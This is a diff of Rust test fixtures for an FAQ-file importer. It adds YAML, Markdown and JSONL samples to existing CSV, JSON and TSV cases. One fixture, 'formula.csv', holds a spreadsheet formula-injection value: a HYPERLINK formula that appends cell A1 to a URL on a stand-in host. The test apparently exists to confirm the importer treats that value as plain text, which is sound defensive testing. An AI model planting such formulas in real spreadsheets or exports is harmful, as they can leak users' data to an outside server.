@@ -50,7 +50,7 @@ fn length(node: &Running) -> u64 {
 }
 
 /// Files that people reported, with how many questions each has, and a question with its answer.
-const REPORTED: [(&str, &[u8], u64, &str, &str); 6] = [
+const REPORTED: [(&str, &[u8], u64, &str, &str); 9] = [
     ("duplicates.csv", "stimulus,response\nОбщежитие,Первый ответ\nобщежитие ,Второй ответ\nОбщежитие,Третий ответ\n".as_bytes(), 1,
      "общежитие", "Третий ответ"),
     ("excel-ru.csv", b"\xc2\xee\xef\xf0\xee\xf1;\xce\xf2\xe2\xe5\xf2\r\n\xca\xe0\xea\xee\xe9 \xf0\xe5\xe6\xe8\xec \xf0\xe0\xe1\xee\xf2\xfb?;\"\xd1 9 \xe4\xee 18, \"\"\xe1\xe5\xe7 \xee\xe1\xe5\xe4\xe0\"\"\"\r\n", 1,
@@ -58,6 +58,11 @@ const REPORTED: [(&str, &[u8], u64, &str, &str); 6] = [
     ("excel-utf8.csv", "\u{feff}Вопрос;Ответ\r\nКакой режим работы?;С 9 до 18\r\n".as_bytes(), 1, "Какой режим работы?", "С 9 до 18"),
     ("array.json", br#"[{"question": "When do you open?", "answer": "At nine"}]"#, 1, "When do you open?", "At nine"),
     ("tab.tsv", b"question\tanswer\nWhen do you open?\tAt nine\n", 1, "When do you open?", "At nine"),
+    ("faq.yaml", "faq:\n  - q: When do you open?\n    a: |\n      At nine\n      sharp\n  - q: Где столовая?\n    a: На первом этаже\n".as_bytes(), 2,
+     "When do you open?", "At nine\nsharp\n"),
+    ("faq.md", "# FAQ\n\n## When do you open?\n\nAt **nine**.\n\n```\n# no heading\n```\n\n## Where?\n\nHere\n".as_bytes(), 2,
+     "When do you open?", "At **nine**.\n\n```\n# no heading\n```"),
+    ("lines.jsonl", "{\"prompt\": \"When do you open?\", \"completion\": \"At nine\"}\r\n".as_bytes(), 1, "When do you open?", "At nine"),
     ("formula.csv", "stimulus,response\nКак сбросить пароль?,Позвоните\n\"=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A1,\"\"Open\"\")\",-2+3\n".as_bytes(), 2,
      "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Open\")", "-2+3"),
 ];
